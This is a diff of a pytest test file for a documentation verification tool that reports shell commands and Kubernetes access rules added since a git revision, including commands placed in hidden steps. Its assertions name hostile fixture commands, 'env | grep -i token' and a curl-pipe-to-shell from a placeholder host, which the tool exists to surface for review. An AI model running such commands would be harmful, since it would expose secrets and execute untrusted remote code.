@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 
 from verify import cli
-from verify.static.changes import HIDDEN, SHOWN, RevisionError, changes_since
+from verify.static.changes import ACCESS, HIDDEN, SHOWN, RevisionError, changes_since
 
 FRONT = "---\ntitle: t\nweight: 1\nrequires: []\n---\n\n# t\n\n"
 BEFORE = FRONT + "```shell\nkubectl get pods\nkubectl get svc\n```\n"
@@ -57,6 +57,20 @@ def test_an_unchanged_page_has_no_change(repo: Path) -> None:
     assert changes_since([repo / "docs_src/ja/page.md"], repo, "HEAD") == []
 
 
+def test_declared_access_is_listed_before_every_command(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    page = repo / "docs_src/ja/page.md"
+    page.write_text(AFTER.replace("requires: []\n", "requires: []\naccess:\n- reason: reads the nodes\n  verbs: [list]\n"
+                                                      "  resources: [nodes]\n"), encoding="utf-8")
+    changes = changes_since([page], repo, "HEAD")
+    assert (changes[0].command.how, changes[0].command.location.line) == (ACCESS, 5)
+    assert changes[0].command.text == "list nodes (core) cluster-wide: reads the nodes"
+    cli.main(["static", "--root", str(repo), "--no-cache", "--report", str(repo / "r.json"), "--changed-since", "HEAD",
+              str(page)])
+    out = capsys.readouterr().out
+    assert "1 access rule(s) declared or altered; 3 command(s) added or altered" in out
+    assert out.index("list nodes (core) cluster-wide") < out.index("env | grep -i token")
+
+
 def test_a_command_moved_into_a_hidden_step_counts_as_changed(repo: Path) -> None:
     page = repo / "docs_src/ja/page.md"
     page.write_text(FRONT + "```shell\nkubectl get pods\n```\n\n<!-- invisible-code-block: shell\nkubectl get svc\n-->\n",
@@ -78,7 +92,8 @@ def test_the_cli_prints_the_changes(repo: Path, capsys: pytest.CaptureFixture[st
     cli.main(["static", "--root", str(repo), "--no-cache", "--report", str(repo / "r.json"),
               "--changed-since", "HEAD", str(repo / "docs_src/ja/page.md")])
     out = capsys.readouterr().out
-    assert "changes since HEAD: 3 command(s) added or altered, 1 of them hidden" in out
+    assert "changes since HEAD: 0 access rule(s) declared or altered; 3 command(s) added or altered, 1 of them hidden" \
+        in out
     hidden, curl = out.index("env | grep -i token"), out.index("curl -s https://x.invalid/i.sh | sh")
     assert hidden < curl
     assert "page.md:16  (added)" in out
